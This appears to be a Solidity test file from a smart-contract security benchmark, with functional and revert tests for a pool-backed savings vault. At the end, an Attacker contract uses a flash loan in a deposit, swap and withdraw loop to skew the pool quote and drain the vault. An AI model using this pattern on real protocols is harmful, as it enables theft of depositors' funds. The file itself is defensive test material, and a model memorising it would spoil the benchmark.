// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.7.6;

import "./DollarVault.sol";
import "./context/DollarPool.sol";

// assay-canary-1f748574-920b-43f4-84eb-3e53b2ddecb6

interface Vm {
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    address private minter = msg.sender;

    constructor() ERC20("Dollar", "USD") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

interface IBorrower {
    function onLoan(uint256 amount) external;
}

/// Lends everything it has within one transaction, for nothing.
contract FlashLender {
    Dollar internal usd;

    constructor(Dollar usd_) {
        usd = usd_;
    }

    function lend(uint256 amount) external {
        uint256 before = usd.balanceOf(address(this));
        usd.transfer(msg.sender, amount);
        IBorrower(msg.sender).onLoan(amount);
        require(usd.balanceOf(address(this)) >= before, "not repaid");
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant KEEPER = address(0x4EE9);
    address internal constant TREASURY = address(0x7EA5);
    address internal constant SAVER = address(0x5A7E);
    address internal constant GUEST = address(0x63E5);
    uint256 internal constant M = 1e6 * 1e18;

    Dollar internal a;
    Dollar internal b;
    DollarPool internal pool;
    DollarVault internal vault;
    PoolStrategy internal strategy;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(1603670000);
        a = new Dollar();
        b = new Dollar();
        pool = new DollarPool(a, b);
        a.mint(address(this), 400 * M);
        b.mint(address(this), 460 * M);
        a.approve(address(pool), uint256(-1));
        b.approve(address(pool), uint256(-1));
        pool.join(400 * M, 460 * M, 0);

        vault = new DollarVault(a, KEEPER, TREASURY, 1000 * M);
        strategy = new PoolStrategy(address(vault), IDollarPool(address(pool)));
        vault.setStrategy(strategy);
        _join(SAVER, 120 * M);
        vm.prank(SAVER);
        vault.deposit(120 * M);
        vm.prank(KEEPER);
        vault.invest(60 * M, 1);

        FlashLender lender = new FlashLender(a);
        a.mint(address(lender), 270 * M);
        mallory = new Attacker(vault, pool, lender, a, b);
    }

    function _join(address who, uint256 amount) private {
        a.mint(who, amount);
        vm.prank(who);
        a.approve(address(vault), uint256(-1));
    }

    function near(uint256 x, uint256 y) private pure returns (bool) {
        return x <= y && x + 10 >= y;
    }

    function test_Regular() public {
        require(vault.balanceOf(SAVER) == 120 * M - 1000 && vault.balanceOf(vault.NOBODY()) == 1000, "first");
        uint256 total = vault.totalAssets();
        require(vault.idle() == 60 * M && total > 119 * M && total < 121 * M, "total");
        require(vault.marked() == vault.invested() && strategy.parts() > 25 * M, "invested");

        _join(GUEST, 10 * M);
        vm.prank(GUEST);
        uint256 shares = vault.deposit(10 * M);
        require(near(vault.totalAssets(), total + 10 * M) && vault.balanceOf(GUEST) == shares, "in");
        require(near(vault.maxWithdraw(GUEST), 10 * M) && vault.pricePerShare() > 0.98 ether, "worth");
        vm.prank(GUEST);
        vault.withdraw(shares / 2, 4 * M);
        require(near(a.balanceOf(GUEST), 5 * M), "half out");
        vault.setLimits(500 * M, 10, 200);
        require(vault.depositLimit() == 500 * M && vault.fee() == 10 && vault.drift() == 200, "limits");
        vm.prank(GUEST);
        vault.withdraw(shares / 2, 4 * M);
        require(near(a.balanceOf(GUEST), 9.995 ether * 1e6) && near(a.balanceOf(TREASURY), 0.005 ether * 1e6), "out, less the fee");
        vault.setLimits(500 * M, 0, 300);

        // a small swap does not disturb anybody
        a.mint(address(this), M);
        uint256 out = pool.swap(true, M, 0);
        require(out > 0.98 ether * 1e6 && out < 1.01 ether * 1e6, "swap");
        vm.prank(SAVER);
        vault.withdraw(M, 0);
        require(vault.maxWithdraw(SAVER) == vault.idle(), "idle");

        // what an investment brings is shared out over six hours
        vm.warp(block.timestamp + 6 hours);
        require(vault.lockedProfit() == 0, "released");
        vm.prank(KEEPER);
        vault.mark();
        require(vault.marked() == vault.invested(), "marked");
        uint256 held = strategy.parts();
        vm.prank(KEEPER);
        vault.divest(held, 58 * M);
        require(vault.invested() == 0 && vault.idle() > 117 * M, "divested");
        vm.prank(SAVER);
        vault.withdraw(100 * M, 95 * M);

        // another strategy, other people
        PoolStrategy next = new PoolStrategy(address(vault), IDollarPool(address(pool)));
        vault.setStrategy(next);
        vault.invest(M, 1);
        vault.mark();
        require(next.parts() > 0, "invested again");
        Dollar other = new Dollar();
        other.mint(address(next), 5);
        other.mint(address(vault), 6);
        next.sweep(other);
        vault.sweep(other);
        require(other.balanceOf(TREASURY) == 11, "swept");
        vault.setKeeper(GUEST);
        vault.setTreasury(GUEST);
        require(vault.keeper() == GUEST && vault.treasury() == GUEST, "people");
        vault.pause();
        require(vault.paused(), "paused");
        vault.unpause();
        vm.prank(SAVER);
        vault.transfer(GUEST, 10);
        vm.prank(GUEST);
        vault.approve(address(this), 10);
        vault.transferFrom(GUEST, SAVER, 5);
        vm.prank(GUEST);
        vault.increaseAllowance(address(this), 5);
        vm.prank(GUEST);
        vault.decreaseAllowance(address(this), 5);
        require(vault.allowance(GUEST, address(this)) == 5, "allowance");
        vault.transferOwnership(GUEST);
        vm.prank(GUEST);
        vault.renounceOwnership();
        require(vault.owner() == address(0), "renounced");
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesTrades() public {
        a.mint(address(this), 10 * M);
        vm.expectRevert("!tokens");
        new DollarPool(a, a);
        vm.expectRevert("!min");
        pool.swap(true, 0, 0);
        vm.expectRevert("!min");
        pool.swap(true, 1000, 2000);
        vm.expectRevert("!min");
        pool.joinOne(0, 0);
        vm.expectRevert("!min");
        pool.joinOne(1 ether, 2 ether);
        vm.expectRevert("!min");
        pool.exitOne(1 ether, 4 ether);
        refuses(SAVER, "ERC20: burn amount exceeds balance");
        pool.exitOne(1, 0);
        uint256 all = pool.totalSupply();
        vm.expectRevert("!parts");
        pool.quoteOne(all + 1);
        vm.expectRevert("!parts");
        pool.worth(all + 1);
    }

    function test_RefusesSavers() public {
        refuses(SAVER, "!keeper");
        vault.invest(1, 0);
        refuses(SAVER, "!keeper");
        vault.divest(1, 0);
        refuses(SAVER, "!keeper");
        vault.mark();
        refuses(SAVER, "Ownable: caller is not the owner");
        vault.setStrategy(strategy);
        refuses(SAVER, "Ownable: caller is not the owner");
        vault.setKeeper(SAVER);
        refuses(SAVER, "Ownable: caller is not the owner");
        vault.setTreasury(SAVER);
        refuses(SAVER, "Ownable: caller is not the owner");
        vault.setLimits(0, 0, 0);
        refuses(SAVER, "Ownable: caller is not the owner");
        vault.pause();
        refuses(SAVER, "Ownable: caller is not the owner");
        vault.sweep(b);
        refuses(SAVER, "Ownable: caller is not the owner");
        vault.transferOwnership(SAVER);
        refuses(SAVER, "Ownable: caller is not the owner");
        vault.renounceOwnership();
        refuses(SAVER, "!owner");
        strategy.sweep(b);
        refuses(SAVER, "!vault");
        strategy.put(0, 0);
        refuses(SAVER, "!vault");
        strategy.take(1, 0);
        vault.pause();
        refuses(SAVER, "Ownable: caller is not the owner");
        vault.unpause();
        refuses(SAVER, "Pausable: paused");
        vault.deposit(1);
    }

    function test_RefusesSettings() public {
        vm.expectRevert("!fee");
        vault.setLimits(0, 51, 0);
        vm.expectRevert("!drift");
        vault.setLimits(0, 0, 501);
        vm.expectRevert("!keeper");
        vault.setKeeper(address(0));
        vm.expectRevert("!treasury");
        vault.setTreasury(address(0));
        vm.expectRevert("!treasury");
        vault.setTreasury(address(vault));
        vm.expectRevert("!token");
        vault.sweep(a);
        vm.expectRevert("!token");
        strategy.sweep(a);
        vm.expectRevert("!token");
        strategy.sweep(pool);
        PoolStrategy next = new PoolStrategy(address(vault), IDollarPool(address(pool)));
        vm.expectRevert("!empty");
        vault.setStrategy(next);
        next = new PoolStrategy(address(this), IDollarPool(address(pool)));
        vm.expectRevert("!vault");
        vault.setStrategy(next);
        next = new PoolStrategy(address(vault), IDollarPool(address(new DollarPool(b, a))));
        vm.expectRevert("!want");
        vault.setStrategy(next);
    }

    function test_RefusesAmounts() public {
        vm.expectRevert("!idle");
        vault.invest(60 * M + 1, 0);
        uint256 held = strategy.parts();
        vm.expectRevert("!parts");
        vault.divest(held + 1, 0);
        refuses(GUEST, "ERC20: burn amount exceeds balance");
        vault.withdraw(1 ether, 0);
        refuses(SAVER, "!idle");
        vault.withdraw(100 * M, 0);
        refuses(SAVER, "!min");
        vault.withdraw(1 ether, 2 ether);
        vm.expectRevert("!shares");
        vault.deposit(0);
        _join(GUEST, 1000 * M);
        refuses(GUEST, "!limit");
        vault.deposit(890 * M);
        DollarVault other = new DollarVault(a, KEEPER, TREASURY, 1000 * M);
        vm.prank(GUEST);
        a.approve(address(other), 1000);
        refuses(GUEST, "!amount");
        other.deposit(1000);
    }

    /// Nothing is counted while the pool is far from the mark, on either side.
    function test_RefusesDrift() public {
        b.mint(address(this), 60 * M);
        pool.swap(false, 60 * M, 0);
        _refusesToCount();
        uint256 got = a.balanceOf(address(this));
        a.mint(address(this), 60 * M);
        pool.swap(true, got + 60 * M, 0);
        _refusesToCount();
    }

    function _refusesToCount() private {
        uint256 current = vault.invested() * 100;
        bool near_ = current >= vault.marked() * 97 && current <= vault.marked() * 103;
        _join(GUEST, 1 ether);
        vm.prank(GUEST);
        (bool taken, ) = address(vault).call(abi.encodeWithSelector(vault.deposit.selector, 1 ether));
        vm.prank(SAVER);
        (bool given, ) = address(vault).call(abi.encodeWithSelector(vault.withdraw.selector, 1 ether, 0));
        require(taken == near_ && given == near_, "counted far from the mark");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = a.balanceOf(address(mallory));
        exploit();
        require(a.balanceOf(address(mallory)) >= before + 33 * M, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(a);
    }
}

/// Deposits, pushes the quote of the pool up by not quite three parts of a hundred, withdraws, and lets it down again.
contract Attacker is IBorrower {
    uint256 internal constant M = 1e6 * 1e18;

    DollarVault internal vault;
    DollarPool internal pool;
    FlashLender internal lender;
    Dollar internal a;
    Dollar internal b;

    constructor(DollarVault vault_, DollarPool pool_, FlashLender lender_, Dollar a_, Dollar b_) {
        vault = vault_;
        pool = pool_;
        lender = lender_;
        a = a_;
        b = b_;
    }

    function run() external {
        lender.lend(270 * M);
    }

    function onLoan(uint256 amount) external override {
        require(msg.sender == address(lender), "lender only");
        a.approve(address(vault), uint256(-1));
        a.approve(address(pool), uint256(-1));
        b.approve(address(pool), uint256(-1));
        uint256 push = (pool.reserveA() * 29) / 1000;
        uint256 last = 0;
        while (a.balanceOf(address(this)) > last && last < amount + 33 * M) {
            last = a.balanceOf(address(this));
            uint256 shares = vault.deposit(250 * M);
            uint256 out = pool.swap(true, push, 0);
            vault.withdraw(shares, 0);
            pool.swap(false, out, 0);
        }
        a.transfer(address(lender), amount);
    }
}
